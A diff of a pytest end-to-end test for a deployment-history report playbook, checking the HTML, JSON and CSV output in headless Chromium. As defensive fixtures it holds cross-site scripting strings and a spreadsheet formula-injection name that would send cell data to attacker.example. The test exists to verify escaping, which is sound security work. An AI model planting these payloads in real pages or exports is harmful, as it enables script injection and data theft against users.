@@ -1,9 +1,11 @@
 """playbooks/report.yml end to end: deployment history in the lab's DynamoDB, the report written with
 ansible-playbook, then opened in headless Chromium (Debian's package, `make browser`).
 
-The history is put into the lab with boto3, item by item in the layout drs_history_record writes (one
-item per source account per deployment run), so that the success rates sit exactly on the colour
-bands' boundaries. The report reads it back through drs_history_info.
+The history is put into the lab with boto3: the items of each run are laid out by the collection's own
+``history.build_items`` (one item per source account per run, as the deploy role and drs_history_record write
+them) from instance statuses chosen so that the success rates sit exactly on the colour bands' boundaries, and
+one run is left ``in_progress`` with a lease that ran out hours ago, as a run killed without recording its end
+leaves it. The report reads the history back through drs_history_info.
 """
 
 import csv
@@ -11,6 +13,7 @@ import json
 import re
 import shutil
 import subprocess
+import sys
 import uuid
 from datetime import datetime, timedelta, timezone
 from decimal import Decimal
@@ -19,89 +22,121 @@ from html.parser import HTMLParser
 
 import pytest
 
-from tests.e2e.conftest import run_playbook
+from tests.e2e.conftest import collection_environment, run_playbook
 from tests.lab_fixture import REPO_ROOT
+
+# The collection, importable the way ansible-playbook finds it, for the code that lays out history items.
+sys.path.insert(0, collection_environment()["ANSIBLE_COLLECTIONS_PATH"].split(":", 1)[0])
+from ansible_collections.drs_orchestration.agent_deployer.plugins.module_utils import history  # noqa: E402
+from ansible_collections.drs_orchestration.agent_deployer.plugins.module_utils import outcomes  # noqa: E402
 
 PLAYBOOK = REPO_ROOT / "playbooks" / "report.yml"
 CHROMIUM_TIMEOUT = 120
-CSV_COLUMNS = ["deployment_id", "timestamp", "account_id", "account_name", "region", "instance_id", "name", "wave",
-               "priority", "ssm_status", "error_category", "error_message", "remediation"]
+FAILURE_COLUMNS = ["deployment_id", "started_at", "account_id", "account_name", "region", "instance_id", "name", "wave",
+                   "priority", "ssm_status", "error_category", "error_message", "remediation"]
+UNPROTECTED_COLUMNS = ["deployment_id", "started_at", "account_id", "account_name", "region", "instance_id", "name",
+                       "wave", "priority", "status", "error_category", "reason", "remediation"]
+REPORT_FILES = ("report.html", "deployments.json", "failures.csv", "unprotected.csv")
 HOSTILE_NAME = '<img src=x onerror="console.error(\'xss-name\')">, "db"'
 HOSTILE_MESSAGE = '<script>console.error("xss-message")</script> exit 1,\nsee "agent.log"'
-PROD, SHARED, RETAIL, SANDBOX = "111111111111", "222222222222", "444444444444", "555555555555"
+# An instance name (a tag anyone with ec2:CreateTags can set) that a spreadsheet would run as a formula.
+FORMULA_NAME = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+STAGING = "333333333333"
+PROD, SHARED, RETAIL, SANDBOX, ANALYTICS, BATCH = (
+    "111111111111", "222222222222", "444444444444", "555555555555", "666666666666", "777777777777")
+NAMES = {PROD: "Production, EU", SHARED: "Shared services", RETAIL: "Retail <script>", SANDBOX: "Sandbox",
+         ANALYTICS: "Analytics", BATCH: "Batch"}
+AGENT_REMEDIATION = "Check the agent's installation log on the instance, then run the deployment again."
 
 
 def _iso(moment):
     return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z"
 
 
-def _failure(number, account_id, wave=1, name=None, message="exit code 1", category="agent_install"):
-    return {
-        "instance_id": f"i-{account_id[:4]}{number:013x}", "name": name or f"server-{number}", "account_id": account_id,
-        "region": "us-east-1" if number % 2 else "us-west-2", "wave": wave, "priority": "high",
-        "ssm_status": "Failed", "error_category": category, "error_message": message,
-        "remediation": "Check the agent's installation log on the instance, then run the deployment again.",
-    }
+def _time(text):
+    return datetime.fromisoformat(text.replace("Z", "+00:00"))
 
 
-def _item(deployment_id, account_id, name, finished, pattern, counts, failures=(), stopped_after_wave=None):
-    attempted, installed, already, failed, skipped = counts
-    assert failed == len(failures)
-    succeeded = installed + already
-    if attempted and succeeded == attempted:
-        status = "success"
-    elif succeeded:
-        status = "partial"
-    else:
-        status = "failed"
-    started = finished - timedelta(minutes=20)
-    return {
-        "deployment_id": deployment_id,
-        "timestamp": f"{_iso(finished)}#{account_id}",
-        "source_account_id": account_id,
-        "source_account_name": name,
-        "deployment_pattern": pattern,
-        "status": status,
-        "regions": ["us-east-1", "us-west-2"],
-        "staging_account_id": "333333333333",
-        "started_at": _iso(started),
-        "finished_at": _iso(finished),
-        "duration_seconds": 1200,
-        "attempted": attempted,
-        "installed": installed,
-        "already_registered": already,
-        "failed": failed,
-        "skipped": skipped,
-        "success_rate": Fraction(succeeded, attempted) if attempted else None,
-        "stopped_after_wave": stopped_after_wave,
-        "failed_instances": list(failures),
-        "ttl": int((finished + timedelta(days=90)).timestamp()),
-    }
+class _Instances:
+    """Instances of one run with the details the deploy role records for each status."""
+
+    def __init__(self):
+        self.entries = []
+
+    def add(self, account_id, status, number=1, wave=1, name=None, reason=None, category="agent_install"):
+        for _count in range(number):
+            serial = len(self.entries)
+            entry = {"instance_id": f"i-{account_id[:4]}{serial:013x}", "account_id": account_id,
+                     "region": "us-east-1" if serial % 2 else "us-west-2", "wave": wave, "priority": "high",
+                     "name": name or f"server-{serial}", "status": status}
+            if outcomes.is_failure(status):
+                entry.update(ssm_status="Success" if status == outcomes.NOT_REGISTERED_AFTER_SUCCESS else "Failed",
+                             error_category=category, command_id=f"cmd-{serial:08d}", reason=reason or "exit code 1",
+                             remediation=AGENT_REMEDIATION)
+            elif not outcomes.is_protected(status):
+                entry.update(reason=reason or f"{status.replace('_', ' ')} (instance {serial})",
+                             remediation=outcomes.status_remediation(status))
+            self.entries.append(entry)
+        return self
+
+
+def _run(started, instances, accounts, final=True, stopped=False, written_at=None, **record):
+    """The items of one run, laid out by history.build_items; ``written_at`` is when they were last written
+    (for a run still in progress, its lease runs 15 minutes from then)."""
+    finished = started + timedelta(minutes=20) if final else None
+    waves = sorted({entry["wave"] for entry in instances.entries if entry["wave"] is not None
+                    and entry["status"] != outcomes.NOT_STARTED})
+    record = dict({
+        "deployment_id": str(uuid.uuid4()), "run_id": uuid.uuid4().hex, "pattern": None,
+        "started_at": started, "finished_at": finished, "final": final, "stopped": stopped,
+        "stop_reason": None, "stopped_after_wave": None,
+        "accounts": [{"account_id": account_id, "name": NAMES[account_id], "staging_account_id": STAGING,
+                      "regions": ["us-east-1", "us-west-2"]} for account_id in accounts],
+        "instances": instances.entries,
+        "waves": [{"wave": wave, "started_at": started + timedelta(minutes=wave),
+                   "finished_at": started + timedelta(minutes=wave + 1)} for wave in waves],
+        "unreachable": [], "extension": None,
+        "in_flight": [{key: entry.get(key) for key in ("instance_id", "command_id", "account_id", "region", "wave")}
+                      for entry in instances.entries if entry["status"] == outcomes.IN_FLIGHT],
+    }, **record)
+    return history.build_items(record, NAMES, written_at or finished, ttl_days=90)
 
 
 def _history(now):
-    """Deployments of the last hours (at 95% and 80% exactly, below, and nothing attempted) and one of
-    three days ago, which the default period (the last 24 hours) leaves out."""
-    multi, single, retail, sandbox, old = (str(uuid.uuid4()) for _number in range(5))
-    retail_failures = [_failure(n, RETAIL, wave=1 + n % 3) for n in range(4)]
-    retail_failures.append(_failure(4, RETAIL, wave=2, name=HOSTILE_NAME, message=HOSTILE_MESSAGE, category="network"))
-    return [
-        # PROD: 10 of 10, then 9 of 10: 19 of 20 is 95%, green
-        _item(single, PROD, "Production, EU", now - timedelta(hours=20), "cross-account", (10, 10, 0, 0, 0)),
-        _item(multi, PROD, "Production, EU", now - timedelta(hours=3), "multi-account", (10, 8, 1, 1, 0),
-              [_failure(1, PROD, wave=2, message='failed, "quoted"')], stopped_after_wave=2),
-        # SHARED: 8 of 10 is 80%, yellow; two skipped do not count
-        _item(multi, SHARED, "Shared services", now - timedelta(hours=3), "multi-account", (10, 7, 1, 2, 2),
-              [_failure(2, SHARED), _failure(3, SHARED, wave=3, category="ssm_timeout")]),
-        # RETAIL: 15 of 20 is 75%, red; an instance name and error message written to attack the report
-        _item(retail, RETAIL, "Retail <script>", now - timedelta(hours=1), "same-account", (20, 15, 0, 5, 1),
-              retail_failures),
-        # SANDBOX: nothing attempted, all skipped: no rate, grey
-        _item(sandbox, SANDBOX, "Sandbox", now - timedelta(hours=2), "same-account", (0, 0, 0, 0, 3)),
-        # three days ago: outside the default period
-        _item(old, PROD, "Production, EU", now - timedelta(days=3), "cross-account", (5, 0, 0, 5, 0),
-              [_failure(n, PROD) for n in range(5, 10)]),
-    ]
+    """Runs of the last hours (accounts at 95% and 80% exactly, below, and with nothing attempted; one stopped,
+    one still going, one killed hours ago without recording its end) and one of three days ago, which the
+    default period (the last 24 hours) leaves out. Returns the items of each run by name."""
+    retail = (_Instances().add(RETAIL, "installed", 15).add(RETAIL, "failed", 4)
+              .add(RETAIL, "failed", wave=2, name=HOSTILE_NAME, reason=HOSTILE_MESSAGE, category="network")
+              .add(RETAIL, "skipped_ssm_offline"))
+    multi = (_Instances()
+             # PROD: 10 of 10 before, 9 of 10 here: 19 of 20 is 95%, green
+             .add(PROD, "installed", 8).add(PROD, "already_registered")
+             .add(PROD, "failed", wave=2, reason='failed, "quoted"')
+             # SHARED: 8 of 10 is 80%, yellow; the skipped, unsettled and unplanned instances are not attempted
+             .add(SHARED, "installed", 7).add(SHARED, "already_registered")
+             .add(SHARED, "not_registered_after_success", category="not_registered")
+             .add(SHARED, "timed_out", wave=2, category="ssm_timeout").add(SHARED, "skipped_ssm_offline")
+             .add(SHARED, "skipped_not_managed").add(SHARED, "in_flight", wave=2)
+             .add(SHARED, "not_started", 2, wave=3).add(SHARED, "no_wave", wave=None, name=FORMULA_NAME))
+    # SANDBOX: nothing attempted, more skipped instances than an item holds
+    sandbox = _Instances().add(SANDBOX, "skipped_not_managed", history.MAX_UNPROTECTED + 5)
+    # ANALYTICS: killed 4 hours ago, its item still in progress, written 5 minutes after it started: 2 of 3, red
+    killed_at = now - timedelta(hours=4)
+    analytics = _Instances().add(ANALYTICS, "installed", 2).add(ANALYTICS, "failed")
+    running_since = now - timedelta(minutes=30)
+    return {
+        "single": _run(now - timedelta(hours=20), _Instances().add(PROD, "installed", 10), [PROD]),
+        "multi": _run(now - timedelta(hours=3), multi, [PROD, SHARED], stopped=True, stopped_after_wave=2,
+                      stop_reason="Interrupted by SIGTERM: the installs still running are recorded as in flight"),
+        "retail": _run(now - timedelta(hours=1), retail, [RETAIL]),
+        "sandbox": _run(now - timedelta(hours=2), sandbox, [SANDBOX]),
+        "interrupted": _run(killed_at, analytics, [ANALYTICS], final=False, written_at=killed_at + timedelta(minutes=5)),
+        # BATCH: still going, its lease renewed just now
+        "running": _run(running_since, _Instances().add(BATCH, "installed", 4), [BATCH], final=False, written_at=now),
+        "old": _run(now - timedelta(days=3), _Instances().add(PROD, "failed", 5), [PROD]),
+    }
 
 
 def _dynamo_value(value):
@@ -109,8 +144,6 @@ def _dynamo_value(value):
         return {key: _dynamo_value(entry) for key, entry in value.items()}
     if isinstance(value, list):
         return [_dynamo_value(entry) for entry in value]
-    if isinstance(value, Fraction):
-        return Decimal(value.numerator) / Decimal(value.denominator)
     if isinstance(value, float):
         return Decimal(str(value))
     return value
@@ -133,22 +166,23 @@ def _create_table(lab, name):
 
 
 @pytest.fixture(scope="module")
-def history(lab_factory):
+def history_runs(lab_factory):
     lab = lab_factory("demo")
     table_name = f"drs-report-{uuid.uuid4().hex[:8]}"
     _create_table(lab, table_name)
-    items = _history(datetime.now(timezone.utc))
+    runs = _history(datetime.now(timezone.utc))
     table = lab.client("dynamodb")
     from boto3.dynamodb.types import TypeSerializer  # pylint: disable=import-outside-toplevel
     serializer = TypeSerializer()
-    for item in items:
-        table.put_item(TableName=table_name, Item={key: serializer.serialize(_dynamo_value(value))
-                                                   for key, value in item.items()})
-    return lab, table_name, items
+    for items in runs.values():
+        for item in items:
+            table.put_item(TableName=table_name, Item={key: serializer.serialize(_dynamo_value(value))
+                                                       for key, value in item.items()})
+    return lab, table_name, runs
 
 
 def _report(history_fixture, output_dir, **filters):
-    lab, table_name, _items = history_fixture
+    lab, table_name, _runs = history_fixture
     extra_vars = {"drs_report_table_name": table_name, "drs_report_output_dir": str(output_dir),
                   "drs_report_page_size": 2}
     extra_vars.update(filters)
@@ -177,60 +211,123 @@ def _open(page, tmp_path, *args):
     return completed.stdout, console
 
 
+# Elements that have no end tag.
+VOID_ELEMENTS = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}
+
+
 class _Dom(HTMLParser):
-    """The elements of a dumped DOM (tag and attributes) and its text."""
+    """The elements of a dumped DOM (tag and attributes), its text, and the text of each element."""
 
     def __init__(self, text):
         super().__init__(convert_charrefs=True)
         self.elements = []
         self.text = []
+        self.closed = []  # (tag, attributes, text inside), in the order the elements end
+        self._open = []
         self.feed(text)
 
     def handle_starttag(self, tag, attrs):
         self.elements.append((tag, dict(attrs)))
+        if tag not in VOID_ELEMENTS:
+            self._open.append((tag, dict(attrs), []))
+
+    def handle_endtag(self, tag):
+        while self._open:
+            open_tag, attrs, parts = self._open.pop()
+            self.closed.append((open_tag, attrs, "".join(parts)))
+            if open_tag == tag:
+                break
 
     def handle_data(self, data):
         self.text.append(data)
+        for _tag, _attrs, parts in self._open:
+            parts.append(data)
 
     def with_class(self, name):
         return [attrs for _tag, attrs in self.elements if name in (attrs.get("class") or "").split()]
 
+    def texts_with_class(self, name):
+        """(attributes, text) of each element of class ``name``."""
+        return [(attrs, text) for _tag, attrs, text in self.closed if name in (attrs.get("class") or "").split()]
+
+    def texts_with_attribute(self, name):
+        return [(attrs, text) for _tag, attrs, text in self.closed if name in attrs]
+
+
+def _all_items(runs):
+    return [item for items in runs.values() for item in items]
+
+
+def _in_period(runs, since):
+    return [item for item in _all_items(runs) if _time(item["started_at"]) >= _time(since)]
+
+
+def _shown_status(runs, item):
+    """The status the report must show: the interrupted run's items were written in progress, and their lease
+    ran out hours ago."""
+    if item in runs["interrupted"]:
+        assert item["status"] == "in_progress" and _time(item["lease_until"]) < datetime.now(timezone.utc)
+        return "interrupted"
+    return item["status"]
+
 
 def _expected_bands(items):
-    """Account id -> (success rate, colour) computed from the items with exact fractions."""
+    """Account id -> (success rate, colour), from the items' counts per status with exact fractions."""
     sums = {}
     for item in items:
-        attempted, succeeded = sums.get(item["source_account_id"], (0, 0))
-        sums[item["source_account_id"]] = (attempted + item["attempted"],
-                                           succeeded + item["installed"] + item["already_registered"])
+        protected, failed = sums.get(item["source_account_id"], (0, 0))
+        for status, number in item["by_status"].items():
+            protected += number if outcomes.group(status) == outcomes.PROTECTED else 0
+            failed += number if outcomes.group(status) == outcomes.FAILURE else 0
+        sums[item["source_account_id"]] = (protected, failed)
     bands = {}
-    for account_id, (attempted, succeeded) in sums.items():
-        if not attempted:
+    for account_id, (protected, failed) in sums.items():
+        if not protected + failed:
             bands[account_id] = (None, "none")
             continue
-        rate = Fraction(succeeded, attempted)
+        rate = Fraction(protected, protected + failed)
         bands[account_id] = (rate, "green" if rate >= Fraction(95, 100) else "yellow" if rate >= Fraction(80, 100)
                              else "red")
     return bands
 
 
-def _in_period(items, since):
-    return [item for item in items if item["timestamp"] >= since]
+def _csv_text(value):
+    """A value as the report's CSV files must hold it: text a spreadsheet would run starts with an apostrophe."""
+    text = "" if value is None else str(value)
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
 
 
-def _failure_rows(items):
+def _instance_rows(items, columns, failures_only=False):
+    """The CSV rows the items' unprotected instances (or only the failed ones) must give."""
     rows = []
     for item in items:
-        for failure in item["failed_instances"]:
-            rows.append({
-                "deployment_id": item["deployment_id"], "timestamp": item["timestamp"], "account_id": failure["account_id"],
-                "account_name": item["source_account_name"], "region": failure["region"],
-                "instance_id": failure["instance_id"], "name": failure["name"], "wave": str(failure["wave"]),
-                "priority": failure["priority"], "ssm_status": failure["ssm_status"],
-                "error_category": failure["error_category"], "error_message": failure["error_message"],
-                "remediation": failure["remediation"],
-            })
-    return sorted(rows, key=lambda row: (row["deployment_id"], row["timestamp"], row["instance_id"]))
+        for instance in item["unprotected_instances"]:
+            if failures_only and not outcomes.is_failure(instance["status"]):
+                continue
+            values = dict(instance, deployment_id=item["deployment_id"], started_at=item["started_at"],
+                          account_id=item["source_account_id"], account_name=item["source_account_name"],
+                          error_message=instance["reason"])
+            rows.append({column: _csv_text(values.get(column)) for column in columns})
+    return sorted(rows, key=_row_key)
+
+
+def _row_key(row):
+    return (row["deployment_id"], row["account_id"], row["instance_id"])
+
+
+def _read_csv(path, columns):
+    """The rows of a CSV export, after checking its header and its CRLF line ends."""
+    raw = path.read_bytes()
+    assert raw.startswith((",".join(columns) + "\r\n").encode())
+    assert b"\n" not in raw.replace(b"\r\n", b"")  # line ends are CRLF; no newline inside a cell here
+    with path.open(encoding="utf-8", newline="") as handle:
+        reader = csv.DictReader(handle)
+        assert reader.fieldnames == columns
+        return sorted(reader, key=_row_key)
+
+
+def _people_time(text):
+    return _time(text).strftime("%Y-%m-%d %H:%M:%S")
 
 
 def test_chromium_reports_console_messages_to_the_check(tmp_path):
@@ -244,20 +341,21 @@ def test_chromium_reports_console_messages_to_the_check(tmp_path):
     assert any("Content Security Policy" in line for line in console), console
 
 
-def test_the_report_of_the_last_24_hours_opens_cleanly_and_matches_the_table(history, tmp_path):
-    _lab, table_name, items = history
+def test_the_report_of_the_last_24_hours_opens_cleanly_and_matches_the_table(history_runs, tmp_path):
+    _lab, table_name, runs = history_runs
     output = tmp_path / "report"
-    run = _report(history, output)
+    run = _report(history_runs, output)
     generated = json.loads((output / "deployments.json").read_text(encoding="utf-8"))
     since = generated["filters"]["since"]
     until = generated["filters"]["until"]
-    assert datetime.fromisoformat(until.replace("Z", "+00:00")) - datetime.fromisoformat(since.replace("Z", "+00:00")) \
-        == timedelta(hours=24)
-    reported = _in_period(items, since)
-    assert len(reported) == len(items) - 1  # the deployment of three days ago is left out
-    assert "Report written to" in run.stdout
+    assert _time(until) - _time(since) == timedelta(hours=24)
+    reported = _in_period(runs, since)
+    assert len(reported) == len(_all_items(runs)) - len(runs["old"])  # the run of three days ago is left out
+    shown = " ".join(run.task("drs_orchestration.agent_deployer.drs_report : Show where the report is")["msg"])
+    for name in REPORT_FILES:
+        assert f"{output.resolve()}/{name}" in shown, name
 
-    # deployments.json: the table's items of the period, the filters and when it was made
+    # deployments.json: the table's items of the period, as drs_history_info shows them, the filters and when
     assert generated["filters"] == {"since": since, "until": until, "account_id": None, "deployment_pattern": None,
                                     "status": None, "table_name": table_name}
     assert generated["generated_at"] == until
@@ -266,19 +364,32 @@ def test_the_report_of_the_last_24_hours_opens_cleanly_and_matches_the_table(his
     assert set(by_key) == {(item["deployment_id"], item["timestamp"]) for item in reported}
     for item in reported:
         entry = by_key[(item["deployment_id"], item["timestamp"])]
-        for field in ("source_account_id", "source_account_name", "deployment_pattern", "status", "attempted",
-                      "installed", "already_registered", "failed", "skipped", "started_at", "stopped_after_wave",
-                      "failed_instances"):
+        for field in ("source_account_id", "source_account_name", "deployment_pattern", "started_at", "by_status",
+                      "attempted", "unprotected", "unprotected_instances", "unprotected_left_out",
+                      "stopped_after_wave"):
             assert entry[field] == item[field], field
-        assert entry["success_rate"] == pytest.approx(None if item["success_rate"] is None else float(item["success_rate"]))
+        assert entry["status"] == _shown_status(runs, item)
+        assert entry["success_rate"] == pytest.approx(item["success_rate"])
+    assert [entry["started_at"] for entry in generated["deployments"]] == \
+        sorted(entry["started_at"] for entry in generated["deployments"])
 
-    # failures.csv: one row per failed instance of the period, quoted so that commas, quotes and newlines survive
-    with (output / "failures.csv").open(encoding="utf-8", newline="") as handle:
-        reader = csv.DictReader(handle)
-        assert reader.fieldnames == CSV_COLUMNS
-        rows = sorted(reader, key=lambda row: (row["deployment_id"], row["timestamp"], row["instance_id"]))
-    assert rows == _failure_rows(reported)
-    assert any(row["error_message"] == HOSTILE_MESSAGE and row["name"] == HOSTILE_NAME for row in rows)
+    # failures.csv: one row per failed instance of the period; started_at is when the run started
+    failure_rows = _read_csv(output / "failures.csv", FAILURE_COLUMNS)
+    assert failure_rows == _instance_rows(reported, FAILURE_COLUMNS, failures_only=True)
+    starts = {item["deployment_id"]: item["started_at"] for item in reported}
+    for row in failure_rows:
+        assert "#" not in row["started_at"] and _time(row["started_at"]) == _time(starts[row["deployment_id"]])
+    assert {row["account_id"] for row in failure_rows} == {PROD, SHARED, RETAIL, ANALYTICS}
+
+    # unprotected.csv: one row per unprotected instance the items hold, whatever its status
+    unprotected_rows = _read_csv(output / "unprotected.csv", UNPROTECTED_COLUMNS)
+    assert unprotected_rows == _instance_rows(reported, UNPROTECTED_COLUMNS)
+    assert {row["status"] for row in unprotected_rows} == set(outcomes.UNPROTECTED_STATUSES)
+    [formula_row] = [row for row in unprotected_rows if row["status"] == "no_wave"]
+    assert formula_row["name"] == "'" + FORMULA_NAME and formula_row["wave"] == ""
+    [sandbox] = runs["sandbox"]
+    assert sandbox["unprotected_left_out"] == 5
+    assert sum(row["account_id"] == SANDBOX for row in unprotected_rows) == history.MAX_UNPROTECTED
 
     # report.html: self-contained, no console message (an error, a blocked script or asset) in Chromium
     page = output / "report.html"
@@ -291,37 +402,80 @@ def test_the_report_of_the_last_24_hours_opens_cleanly_and_matches_the_table(his
     dom_text, console = _open(page, tmp_path, "--dump-dom")
     assert console == [], "\n".join(console)
     dom = _Dom(dom_text)
+    text = "".join(dom.text)
 
     # each account's cell has the colour of the success rate computed from the items
     cells = {attrs["data-account-id"]: attrs for attrs in dom.with_class("account-cell")}
     expected = _expected_bands(reported)
-    assert set(cells) == set(expected) == {PROD, SHARED, RETAIL, SANDBOX}
+    assert set(cells) == set(expected) == {PROD, SHARED, RETAIL, SANDBOX, ANALYTICS, BATCH}
     for account_id, (rate, band) in expected.items():
         classes = cells[account_id]["class"].split()
-        assert f"status-{band}" in classes, (account_id, classes)
-        assert [name for name in classes if name.startswith("status-")] == [f"status-{band}"]
-        shown = cells[account_id]["data-success-rate"]
-        assert (shown == "") if rate is None else float(shown) == pytest.approx(float(rate)), (account_id, shown)
+        assert [name for name in classes if name.startswith("status-")] == [f"status-{band}"], (account_id, classes)
+        shown_rate = cells[account_id]["data-success-rate"]
+        assert (shown_rate == "") if rate is None else float(shown_rate) == pytest.approx(float(rate), abs=1e-4)
     assert {account_id: band for account_id, (_rate, band) in expected.items()} == {
-        PROD: "green", SHARED: "yellow", RETAIL: "red", SANDBOX: "none"}
+        PROD: "green", SHARED: "yellow", RETAIL: "red", SANDBOX: "none", ANALYTICS: "red", BATCH: "green"}
 
-    # summary, failures grouped by account, timeline, filters
+    # summary: the success rate over every instance, every deployment status counted
     stats = {attrs["data-stat"]: attrs for attrs in dom.with_class("stat")}
-    attempted = sum(item["attempted"] for item in reported)
-    succeeded = sum(item["installed"] + item["already_registered"] for item in reported)
-    assert float(stats["success_rate"]["data-success-rate"]) == pytest.approx(succeeded / attempted)
+    protected = sum(item["by_status"]["installed"] + item["by_status"]["already_registered"] for item in reported)
+    failed = sum(item["by_status"][status] for item in reported for status in outcomes.FAILED_STATUSES)
+    assert float(stats["success_rate"]["data-success-rate"]) == pytest.approx(protected / (protected + failed), abs=1e-4)
+    statuses = {attrs["data-deployment-status"]: words for attrs, words in dom.texts_with_attribute("data-deployment-status")}
+    assert set(statuses) == {"in_progress", "success", "partial", "failed", "stopped", "interrupted"}
+    for status, words in statuses.items():
+        count = sum(_shown_status(runs, item) == status for item in reported)
+        assert words.split() == [str(count), *status.split("_")], (status, words)
+    assert all(statuses[status].split()[0] != "0" for status in ("in_progress", "stopped", "interrupted"))
+
+    # failed instances grouped by account
     groups = [attrs["data-account-id"] for attrs in dom.with_class("failure-group")]
-    assert groups == sorted({item["source_account_id"] for item in reported if item["failed_instances"]})
+    assert groups == sorted({row["account_id"] for row in failure_rows})
     assert sorted(attrs["data-instance-id"] for attrs in dom.with_class("failure")) == \
-        sorted(row["instance_id"] for row in rows)
-    assert len(dom.with_class("deployment")) == len(reported)
-    text = "".join(dom.text)
+        sorted(row["instance_id"] for row in failure_rows)
+
+    # unprotected instances: each with its status, reason and remediation, and the instances an item left out
+    rows = {(attrs["data-deployment-id"], attrs["data-instance-id"]): (attrs, words)
+            for attrs, words in dom.texts_with_class("unprotected")}
+    listed = {(item["deployment_id"], instance["instance_id"]): instance
+              for item in reported for instance in item["unprotected_instances"]}
+    assert set(rows) == set(listed)
+    for key, instance in listed.items():
+        attrs, words = rows[key]
+        assert attrs["data-status"] == instance["status"]
+        assert instance["reason"] in words and instance["remediation"] in words, key
+        assert instance["status"].replace("_", " ") in words
+    assert [attrs["data-account-id"] for attrs in dom.with_class("unprotected-group")] == \
+        sorted({item["source_account_id"] for item in reported if item["unprotected_instances"]})
+    [(left_out, note)] = dom.texts_with_class("left-out")
+    assert left_out["data-deployment-id"] == sandbox["deployment_id"] and left_out["data-left-out"] == "5"
+    assert "5 more unprotected instances" in " ".join(note.split())
+
+    # timeline: each run's start for people (never the table's sort key), its status, its duration once finished
+    timeline = {(attrs["data-deployment-id"], attrs["data-account-id"]): (attrs, " ".join(words.split()))
+                for attrs, words in dom.texts_with_class("deployment")}
+    assert len(timeline) == len(reported)
+    for item in reported:
+        attrs, words = timeline[(item["deployment_id"], item["source_account_id"])]
+        assert attrs["data-status"] == _shown_status(runs, item)
+        assert _shown_status(runs, item).replace("_", " ") in words
+        assert attrs["data-started-at"] == item["started_at"] and _people_time(item["started_at"]) in words
+        if "finished_at" in item:
+            assert _people_time(item["finished_at"]) in words and "20 min" in words
+        else:
+            assert "not finished" in words
+        assert item["timestamp"] not in text
+    for item in runs["multi"]:
+        assert "stopped after wave 2" in timeline[(item["deployment_id"], item["source_account_id"])][1]
+
+    # filters; untrusted text is shown as text, never run or parsed as markup
     assert "all accounts" in text and "all patterns" in text and "all statuses" in text
     assert since in text and until in text
-    # untrusted text is shown as text, never run or parsed as markup
-    assert HOSTILE_NAME in text and HOSTILE_MESSAGE in text and "Retail <script>" in text
+    [hostile] = [instance for instance in runs["retail"][0]["unprotected_instances"] if instance["name"] == HOSTILE_NAME]
+    assert HOSTILE_NAME in text and hostile["reason"] in text and "Retail <script>" in text
+    assert "<script>" in hostile["reason"]
     assert not [tag for tag, _attrs in dom.elements if tag in ("script", "img")]
-    assert "Check the agent's installation log" in text
+    assert AGENT_REMEDIATION in text
 
     # a screenshot next to the report, for people to look at
     screenshot = output / "report.png"
@@ -331,20 +485,53 @@ def test_the_report_of_the_last_24_hours_opens_cleanly_and_matches_the_table(his
     assert screenshot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and screenshot.stat().st_size > 20_000
 
 
-def test_filters_select_the_deployments_and_are_shown(history, tmp_path):
-    _lab, _table_name, items = history
+@pytest.mark.parametrize("status, run_name", [("interrupted", "interrupted"), ("in_progress", "running"),
+                                              ("stopped", "multi")])
+def test_runs_that_did_not_end_normally_show_as_such_and_can_be_selected(history_runs, tmp_path, status, run_name):
+    """A run killed without recording its end (its item in progress, its lease run out) shows as interrupted;
+    one still going as in progress; one stopped by a signal as stopped."""
+    _lab, _table_name, runs = history_runs
+    output = tmp_path / status
+    since = (datetime.now(timezone.utc) - timedelta(days=4)).strftime("%Y-%m-%dT%H:%M:%SZ")
+    _report(history_runs, output, drs_report_since=since, drs_report_status=status)
+    generated = json.loads((output / "deployments.json").read_text(encoding="utf-8"))
+    expected = runs[run_name]
+    assert sorted((entry["deployment_id"], entry["source_account_id"]) for entry in generated["deployments"]) == \
+        sorted((item["deployment_id"], item["source_account_id"]) for item in expected)
+    assert {entry["status"] for entry in generated["deployments"]} == {status}
+    if status == "interrupted":
+        assert {entry["recorded_status"] for entry in generated["deployments"]} == {"in_progress"}
+
+    dom_text, console = _open(output / "report.html", tmp_path, "--dump-dom")
+    assert console == [], "\n".join(console)
+    dom = _Dom(dom_text)
+    rows = dom.texts_with_class("deployment")
+    assert [attrs["data-status"] for attrs, _words in rows] == [status] * len(expected)
+    label = status.replace("_", " ")
+    assert all(label in words for _attrs, words in rows)
+    badges = [words for _attrs, words in dom.texts_with_class("badge")]
+    assert badges == [label] * len(expected)
+    statuses = {attrs["data-deployment-status"]: words for attrs, words in dom.texts_with_attribute("data-deployment-status")}
+    assert statuses[status].split()[0] == str(len(expected))
+    [(_attrs, shown_filter)] = [(attrs, words) for attrs, words in dom.texts_with_attribute("data-filter")
+                                if attrs["data-filter"] == "status"]
+    assert shown_filter == status
+
+
+def test_filters_select_the_deployments_and_are_shown(history_runs, tmp_path):
+    _lab, _table_name, runs = history_runs
     output = tmp_path / "filtered"
     since = (datetime.now(timezone.utc) - timedelta(days=4)).strftime("%Y-%m-%dT%H:%M:%SZ")
-    _report(history, output, drs_report_since=since, drs_report_account_id=PROD, drs_report_status="failed")
+    _report(history_runs, output, drs_report_since=since, drs_report_account_id=PROD, drs_report_status="failed")
     generated = json.loads((output / "deployments.json").read_text(encoding="utf-8"))
-    expected = [item for item in items if item["source_account_id"] == PROD and item["status"] == "failed"]
-    assert len(expected) == 1  # the deployment of three days ago
+    expected = [item for item in _all_items(runs) if item["source_account_id"] == PROD and item["status"] == "failed"]
+    assert expected == runs["old"]  # the run of three days ago
     assert [entry["deployment_id"] for entry in generated["deployments"]] == [expected[0]["deployment_id"]]
     assert generated["filters"]["account_id"] == PROD and generated["filters"]["status"] == "failed"
     assert generated["filters"]["since"] == since
-    with (output / "failures.csv").open(encoding="utf-8", newline="") as handle:
-        rows = list(csv.DictReader(handle))
-    assert sorted(row["instance_id"] for row in rows) == sorted(f["instance_id"] for f in expected[0]["failed_instances"])
+    rows = _read_csv(output / "failures.csv", FAILURE_COLUMNS)
+    assert rows == _instance_rows(expected, FAILURE_COLUMNS, failures_only=True) and len(rows) == 5
+    assert _read_csv(output / "unprotected.csv", UNPROTECTED_COLUMNS) == _instance_rows(expected, UNPROTECTED_COLUMNS)
 
